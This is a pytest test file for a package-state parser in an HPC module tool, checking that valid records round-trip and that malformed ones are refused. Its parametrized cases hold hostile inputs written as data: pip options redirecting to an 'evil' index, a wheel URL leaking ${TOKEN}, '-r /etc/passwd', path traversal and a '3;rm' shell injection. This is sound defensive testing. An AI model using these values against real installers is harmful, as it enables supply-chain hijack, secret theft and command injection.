from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from hpcmod.core.errors import BadInputError
from hpcmod.packages.values.state import parse_state, render_state
from tests.package_states import EINOPS, NEEDY, make_state
from tests.unit.packages.values.test_conda import PART

STATE = make_state(3, EINOPS, NEEDY, parent=2, allowed=("numpy",), from_image=("torch==2.7.1",))


def test_a_record_is_read_as_it_was_written() -> None:
    assert parse_state(render_state(STATE), "x") == STATE
    full = replace(STATE, conda=PART)
    assert parse_state(render_state(full), "x") == full
    assert STATE.names == {"einops", "needy"}
    assert STATE.find("Einops") == EINOPS
    assert EINOPS.pin == "einops==0.8.1"


@pytest.mark.parametrize(
    "change",
    [
        {"state": 2},
        {"number": "x"},
        {"locked": [{"name": "x"}]},
        {"locked": [{"name": "x", "version": "1", "sha256": "short", "url": "", "size": 0, "since": ""}]},
        {"requirements": "einops"},
        {"requirements": ["needy", "einops\n--index-url=http://evil/simple"]},
        {"requirements": ["einops\u2028--no-binary=x"]},
        {"requirements": ["--index-url=http://evil/simple"]},
        {"requirements": ["x @ https://evil/${TOKEN}/x-1.0-py3-none-any.whl"]},
        {"requirements": ["/w/x.whl -e /w/evil"]},
        {"locked": [{"name": "evil==1.0\n--index-url=http://evil\n#", "version": "1"}]},
        {"locked": [{"name": "evil@https://evil/e.tar.gz", "version": "1"}]},
        {"locked": [{"name": "x", "version": "1 --no-binary=x"}]},
        {"allowed": ["-r /etc/passwd"]},
        {"tag": "../../x"},
        {"image": "x"},
        {"python": "3;rm"},
        {"options": ["--a\x1b[31m"]},
        {"action": "add x\n"},
        {"module": 1},
    ],
)
def test_damaged_records_are_refused(change: dict[str, Any]) -> None:
    values = {**json.loads(render_state(STATE)), **change}
    with pytest.raises(BadInputError):
        parse_state(json.dumps(values).encode(), "x")


@pytest.mark.parametrize(("key", "value"), [("sha256", "x"), ("url", 1), ("not_run", "x")])
def test_a_damaged_conda_package_is_refused(key: str, value: object) -> None:
    values = json.loads(render_state(replace(STATE, conda=PART)))
    values["conda"]["packages"][0][key] = value
    with pytest.raises(BadInputError, match=key):
        parse_state(json.dumps(values).encode(), "x")


@pytest.mark.parametrize("text", ["", "[]", "null", "{}", "[" * 100_000])
def test_an_invalid_record_is_refused(text: str) -> None:
    with pytest.raises(BadInputError):
        parse_state(text.encode(), "x")


def test_a_path_that_is_not_utf8_does_not_damage_the_record() -> None:
    state = make_state(1, action="add -r \udcff")
    assert parse_state(render_state(state), "x").origin.action == "add -r ?"
